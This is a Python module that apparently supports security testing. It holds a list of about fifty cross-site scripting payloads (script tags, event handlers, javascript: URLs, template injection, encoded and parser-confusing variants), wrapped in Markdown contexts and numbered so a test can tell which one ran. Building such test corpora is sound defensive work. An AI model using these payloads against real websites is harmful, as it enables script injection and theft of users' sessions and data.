"""What has run scripts in other pages: markup, attributes, addresses, templates, what parsers
mend. `X` stands for the script."""

_FORMS = r"""
<script>X</script>
<img src=x onerror=X>
<svg onload=X>
"><script>X</script>
'><img src=x onerror=X>
" autofocus onfocus=X x="
' autofocus onfocus=X x='
</title><script>X</script>
</textarea><img src=x onerror=X>
</script><script>X</script>
<iframe srcdoc="<script>parent.X</script>"></iframe>
<iframe src="javascript:parent.X"></iframe>
<a href="javascript:X" autofocus>x</a>
<details open ontoggle=X>x</details>
<input autofocus onfocus=X>
<body onload=X>
<style onload=X></style>
<meta http-equiv=refresh content="0;url=javascript:X">
<base href="javascript:X//">
<object data="javascript:X"></object>
<embed src="javascript:X">
<svg><script>X</script></svg>
<svg><animate onbegin=X attributeName=x dur=1s>
<math><mi xlink:href="javascript:X">x</mi></math>
<video><source onerror=X></video>
<audio src=x onerror=X></audio>
<marquee onstart=X>x</marquee>
javascript:X
data:text/html,<script>X</script>
{{X}}
{{constructor.constructor('X')()}}
{% raw %}<script>X</script>{% endraw %}
${X}
<!--><img src=x onerror=X>-->
<noscript><p title="</noscript><img src=x onerror=X>">
<template><script>X</script></template>
<form action="javascript:X"><button autofocus>x</button></form>
<button formaction="javascript:X" autofocus>x</button>
<svg><style><img src=x onerror=X></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=X&gt;">
\u003cscript\u003eX\u003c/script\u003e
&lt;script&gt;X&lt;/script&gt;
%3Cscript%3EX%3C/script%3E
＜script＞X＜/script＞
<scr<script>ipt>X</scr</script>ipt>
<ScRiPt >X</sCrIpT >
<img/src=x/onerror=X//
<script src="data:,X"></script>
<script src="/api/suggest?q=X"></script>
<link rel=stylesheet href="data:,x" onload=X>
""".strip().splitlines()
_AROUND = ("{}", "**検索** {} `{}`", "> [x]({})", "検索\x0b{}\u2028")


def payloads(most: int) -> list[str]:
    """So many of them, each told by its number in `ran(…)`."""
    forms = [(around, form) for around in _AROUND for form in _FORMS]
    return [
        around.replace("{}", form.replace("X", f"ran({number})"))
        for number, (around, form) in enumerate(forms[:: len(forms) // most][:most])
    ]
